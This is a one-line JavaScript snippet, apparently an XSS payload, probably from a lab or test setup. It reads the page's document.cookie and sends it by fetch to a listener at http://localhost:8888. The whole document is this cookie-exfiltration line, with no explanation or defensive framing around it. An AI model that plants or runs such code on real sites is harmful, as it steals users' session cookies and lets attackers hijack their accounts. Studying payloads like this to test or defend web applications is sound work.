fetch("http://localhost:8888?" + document.cookie);
